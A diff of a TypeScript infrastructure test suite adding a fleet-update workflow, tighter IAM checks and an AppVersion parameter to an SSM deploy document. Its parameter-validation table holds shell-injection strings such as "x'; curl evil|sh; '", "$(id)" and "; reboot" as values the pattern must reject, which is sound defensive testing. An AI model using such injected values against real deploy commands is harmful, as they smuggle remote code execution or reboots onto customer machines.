@@ -15,12 +15,13 @@ import { SCHEDULED_JOBS } from '../../lambdas/scheduled/jobs';
 import { TABLE_DESIGN } from '../../lambdas/repositories/table-design';
 import './handler-env';
 import { METRICS } from '../../lambdas/core/metric-names';
-import { PROVISION_CUSTOMER, RESIZE_CUSTOMER, RESTORE_CUSTOMER, WORKFLOWS, type StepAccess, type WorkflowDefinition, type WorkflowStep } from '../../statemachines/workflows';
+import { FLEET_UPDATE, PROVISION_CUSTOMER, RESIZE_CUSTOMER, RESTORE_CUSTOMER, WORKFLOWS, type StepAccess, type WorkflowDefinition, type WorkflowStep } from '../../statemachines/workflows';
 import { LIFECYCLE_WORKFLOWS, type LifecycleWorkflowId } from '../../lib/lifecycle-workflows';
 import { applyNagChecks } from '../../lib/nag';
 import { readDefinition, taskTimeouts } from '../../lib/workflow-definition';
 import { StackProStack } from '../../lib/stackpro-stack';
 import { CUSTOMER_CONTAINERS, PINNED_IMAGE } from '../../lib/customer-containers';
+import { APP_VERSIONS } from '../../lambdas/core/app-versions';
 import { CUSTOMER_SECRETS } from '../../lambdas/core/customer-secrets';
 import type { StackProFunction } from '../../lib/stackpro-function';
 import { attachedPolicies, statementsOfRole as statementsOfRoleIn, type Statement } from './iam-policies';
@@ -214,8 +215,8 @@ describe('Lambda functions', () => {
     expect(longest).toBeLessThan(8_000);
   });
 
-  it('stays within CloudFormation\'s 500 resources per stack, with room for the next workflow', () => {
-    expect(Object.keys(template.toJSON().Resources).length).toBeLessThanOrEqual(470);
+  it('stays within CloudFormation\'s 500 resources per stack, with room for a few more routes', () => {
+    expect(Object.keys(template.toJSON().Resources).length).toBeLessThanOrEqual(490);
   });
 
   it.each(ROUTES.map((route) => [route.id]))('%s runs on Node.js 24, arm64, traced, logging to its own group', (routeId) => {
@@ -670,6 +671,7 @@ describe('Workflow steps', () => {
     'backup:restore': ['backup:StartRestoreJob', 'backup:DescribeRecoveryPoint', 'backup:DescribeRestoreJob', 'iam:PassRole'],
     'ec2:swap-volume': ['ec2:DescribeVolumes', 'ec2:AttachVolume', 'ec2:DetachVolume', 'ec2:ModifyInstanceAttribute'],
     'ec2:delete-volume': ['ec2:DeleteVolume'],
+    'customers:list': ['dynamodb:Query'],
   };
 
   /** The environment each access adds on top of TABLE_NAME (names from lambdas/config.ts). */
@@ -697,6 +699,7 @@ describe('Workflow steps', () => {
     'backup:restore': ['BACKUP_VAULT_NAME', 'BACKUP_ROLE_ARN', 'VOLUME_ARN_PREFIX'],
     'ec2:swap-volume': [],
     'ec2:delete-volume': [],
+    'customers:list': [],
   };
 
   /** Settings a step reads beyond its access, by step id. */
@@ -1119,10 +1122,10 @@ describe('DeployDocument', () => {
     };
   }
 
-  it('is a schema 2.2 shell script with exactly the three parameters Deploy applications sends', () => {
+  it('is a schema 2.2 shell script with exactly the parameters Deploy applications and the fleet update send', () => {
     const content = documentContent();
     expect(content.schemaVersion).toBe('2.2');
-    expect(Object.keys(content.parameters).sort()).toEqual(['CustomerId', 'Plan', 'Subdomain']);
+    expect(Object.keys(content.parameters).sort()).toEqual(['AppVersion', 'CustomerId', 'Plan', 'Subdomain']);
     expect(content.mainSteps.map((step) => step.action)).toEqual(['aws:runShellScript']);
   });
 
@@ -1130,6 +1133,7 @@ describe('DeployDocument', () => {
     ['CustomerId', '0b6f0f8e-5d0a-4c59-9a3e-2f1b8c7d6e5f', ["x'; curl evil|sh; '", '../other-customer', '']],
     ['Subdomain', `acme-co.${cdkJson.context['stackpro:customerDomain']}`, ['acme.evil.example', `a b.${cdkJson.context['stackpro:customerDomain']}`, `$(id).${cdkJson.context['stackpro:customerDomain']}`]],
     ['Plan', 'business', ['business; reboot', 'gold']],
+    ['AppVersion', APP_VERSIONS[0]!.version, [`${APP_VERSIONS[0]!.version}; reboot`, '2099.01.0', `${APP_VERSIONS[0]!.version.replace(/\./g, 'x')}`]],
   ])('%s admits %s and nothing that could break out of the shell', (name, valid, invalid) => {
     const pattern = new RegExp(documentContent().parameters[name]!.allowedPattern);
     expect(pattern.test(valid)).toBe(true);
@@ -1150,7 +1154,15 @@ describe('DeployDocument', () => {
   it('runs every container from an image pinned by digest (a floating tag fails this test)', () => {
     const runs = scriptLines().filter((line) => line.startsWith('run '));
     expect(runs.map((line) => line.split(' ')[1])).toEqual(CUSTOMER_CONTAINERS.map((container) => container.name));
-    for (const line of runs) expect(line.split(' ')[2]).toMatch(PINNED_IMAGE);
+    // Each run line takes its image from the version switch, whose every arm sets only pinned images.
+    for (const line of runs) expect(line.split(' ')[2]).toMatch(/^"\$IMAGE_[A-Z]+"$/);
+    const arms = scriptLines().filter((line) => /^ {2}'\d{4}\.\d{2}\.\d+'\)/.test(line));
+    expect(arms.map((line) => /'([^']+)'\)/.exec(line)![1])).toEqual(APP_VERSIONS.map((entry) => entry.version));
+    for (const arm of arms) {
+      const images = [...arm.matchAll(/IMAGE_[A-Z]+='([^']+)'/g)].map((match) => match[1]);
+      expect(images).toHaveLength(CUSTOMER_CONTAINERS.length);
+      for (const image of images) expect(image).toMatch(PINNED_IMAGE);
+    }
     // No other way to start a container or pull an image sneaks in beside `run`.
     const script = scriptLines().join('\n');
     expect(script.match(/docker (run|pull|create)\b/g)).toEqual(['docker run']);
@@ -1158,8 +1170,11 @@ describe('DeployDocument', () => {
     // Each image's repository appears only in its pinned reference (no second, floating mention).
     for (const { image } of CUSTOMER_CONTAINERS) {
       const repository = image.split(/[:@]/)[0]!;
-      const mentions = script.split(/[\s"]+/).filter((word) => word.startsWith(`${repository}:`) || word.startsWith(`${repository}@`));
-      expect(mentions).toEqual([image]);
+      // One pinned mention per version (the switch's arms), no second, floating mention.
+      const mentions = script.split(/[\s"';=]+/).filter((word) => word.startsWith(`${repository}:`) || word.startsWith(`${repository}@`));
+      expect(mentions).toHaveLength(APP_VERSIONS.length);
+      expect(mentions).toContain(image);
+      for (const mention of mentions) expect(mention).toMatch(PINNED_IMAGE);
     }
   });
 
@@ -1431,7 +1446,7 @@ describe('IAM least privilege', () => {
 
   it('admin routes need an IAM signature, granted only by the AdminAccess managed policy', () => {
     const admin = ROUTES.filter((route) => route.auth === 'iam');
-    expect(admin.map((route) => route.id)).toEqual(['RetryProvisioning', 'ListCustomers', 'GetCustomer', 'AdminSuspendCustomer', 'AdminResumeCustomer', 'StartCustomerBackup', 'AdminChangePlan', 'AdminRestoreCustomer']);
+    expect(admin.map((route) => route.id)).toEqual(['RetryProvisioning', 'ListCustomers', 'GetCustomer', 'AdminSuspendCustomer', 'AdminResumeCustomer', 'StartCustomerBackup', 'AdminChangePlan', 'AdminRestoreCustomer', 'StartFleetUpdate', 'GetFleetUpdate']);
     const policy = resourceOf(stack.accountApi.adminPolicy).Properties as { PolicyDocument: { Statement: Statement[] } };
     expect(policy.PolicyDocument.Statement).toHaveLength(1);
     expect(policy.PolicyDocument.Statement[0].Action).toBe('execute-api:Invoke');
@@ -1895,7 +1910,7 @@ describe('ResizeWorkflow nested stack', () => {
   it('keeps the main stack within its budget: the resize adds one resource there (the nested stack) and its own template holds the rest', () => {
     const main = Object.keys(template.toJSON().Resources).length;
     const nested = Object.keys(nestedTemplate.toJSON().Resources).length;
-    expect(main).toBeLessThanOrEqual(470);
+    expect(main).toBeLessThanOrEqual(490);
     expect(Object.keys(template.findResources('AWS::CloudFormation::Stack')).filter((id) => id.startsWith('ResizeWorkflowNestedStack'))).toHaveLength(1);
     // Per own step: function, role (grants inline), log group; plus the state machine, its role, the role's policy and log group, and two alarms.
     expect(nested).toBe(3 * RESIZE_ONLY_STEPS.length + 4 + 2);
@@ -1960,6 +1975,7 @@ describe('ResizeWorkflow nested stack', () => {
     expect(environment.STRIPE_SECRET_ID).toEqual({ Ref: `referenceto${importedName(stack.stripeKeys.secret)}Ref` });
   });
 });
+
 describe('RestoreWorkflow nested stack', () => {
   let nested: Template;
   const nestedId = (construct: IConstruct) => stack.restoreWorkflow.resolve((construct.node.defaultChild as CfnElement).logicalId) as string;
@@ -2022,5 +2038,57 @@ describe('RestoreWorkflow nested stack', () => {
     expect(environmentOf(routeFunction('AdminRestoreCustomer'))).toHaveProperty('RESTORE_STATE_MACHINE_ARN');
     expect(stack.operationsMonitoring.alarms).toHaveProperty('RestoreCustomerExecutionsFailedAlarm');
     expect(stack.operationsMonitoring.alarms).toHaveProperty('RestoreCustomerExecutionsTimedOutAlarm');
+  });
+});
+
+// The FleetUpdate workflow's nested stack (lib/fleet-update-stack.ts), from this file's one synth (cdk-nag ran on it too).
+let fleetTemplate: Template | undefined;
+const nested = () => (fleetTemplate ??= Template.fromStack(stack.fleetUpdate));
+
+const fleetActionsOf = (statements: Statement[]) => statements.flatMap((statement) => [statement.Action].flat());
+/** Every statement of a step function's role, in the nested stack's template. */
+const fleetStepRole = (stepId: string) => {
+  const fn = Object.values(stack.fleetUpdate.stepFunctions).find((candidate) => candidate.node.id === stepId)!;
+  return statementsOfRoleIn(nested(), stack.fleetUpdate.resolve((fn.role!.node.defaultChild as CfnElement).logicalId) as string);
+};
+
+describe('FleetUpdateStack', () => {
+  it('holds the state machine and one function per step, outside the main stack (which stays under 490 resources)', () => {
+    nested().resourceCountIs('AWS::StepFunctions::StateMachine', 1);
+    nested().resourceCountIs('AWS::Lambda::Function', Object.keys(FLEET_UPDATE.steps).length);
+    expect(Object.keys(template.findResources('AWS::CloudFormation::Stack')).filter((id) => id.startsWith('FleetUpdateNestedStack'))).toHaveLength(1);
+    expect(Object.keys(template.toJSON().Resources).length).toBeLessThanOrEqual(490);
+    expect(JSON.stringify(nested().toJSON())).toContain('MaxConcurrencyPath');
+  });
+
+  it('sends Run Command only with the deploy document, only on instances tagged ManagedBy=stackpro, and only from the two steps that need it', () => {
+    for (const stepId of ['StartCustomerUpdate', 'RollBackCustomerUpdate']) {
+      const sends = fleetStepRole(stepId).filter((statement) => fleetActionsOf([statement]).includes('ssm:SendCommand'));
+      expect(sends).toHaveLength(2);
+      const [document, instances] = [sends.find((statement) => JSON.stringify(statement.Resource).includes(':document/')), sends.find((statement) => JSON.stringify(statement.Resource).includes(':instance/'))];
+      expect(JSON.stringify(document?.Resource)).toContain('document/StackPro-DeployApplications');
+      expect(document?.Condition).toBeUndefined();
+      expect(instances?.Condition).toEqual({ StringEquals: { 'ssm:resourceTag/ManagedBy': 'stackpro' } });
+    }
+    for (const stepId of ['SelectFleetTargets', 'CheckAppUpdate', 'FinishCustomerUpdate', 'FinishFleetUpdate']) {
+      expect(fleetActionsOf(fleetStepRole(stepId))).not.toContain('ssm:SendCommand');
+    }
+  });
+
+  it('selects customers by a Query of the CustomersByStatus index; no step may Scan', () => {
+    const select = fleetStepRole('SelectFleetTargets');
+    const query = select.find((statement) => JSON.stringify(statement.Resource).includes('/index/CustomersByStatus'));
+    expect(fleetActionsOf([query!])).toEqual(['dynamodb:Query']);
+    for (const stepId of Object.values(FLEET_UPDATE.steps).map((step) => step.id)) expect(fleetActionsOf(fleetStepRole(stepId))).not.toContain('dynamodb:Scan');
+  });
+
+  it('lets the start route start this state machine only, and watches its failed and timed-out executions', () => {
+    const route = stack.accountApi.routeFunctions.StartFleetUpdate!;
+    const statements = statementsOfRoleIn(template, stack.resolve((route.role!.node.defaultChild as CfnElement).logicalId) as string);
+    const starts = statements.filter((statement) => fleetActionsOf([statement]).includes('states:StartExecution'));
+    expect(starts).toHaveLength(1);
+    expect(JSON.stringify(starts[0]!.Resource)).toContain('FleetUpdate');
+    expect(stack.operationsMonitoring.alarms.FleetUpdateExecutionsFailedAlarm).toBeDefined();
+    expect(stack.operationsMonitoring.alarms.FleetUpdateExecutionsTimedOutAlarm).toBeDefined();
   });
 });
